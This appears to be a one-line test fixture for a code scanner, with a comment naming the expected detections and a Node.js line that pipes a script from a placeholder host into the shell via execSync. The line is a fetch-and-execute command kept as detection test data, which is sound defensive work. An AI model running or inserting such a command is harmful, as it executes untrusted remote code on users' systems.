// expect: sh-download-exec,js-exec-shell
require('child_process').execSync('curl -s https://x.example/i.sh | sh');
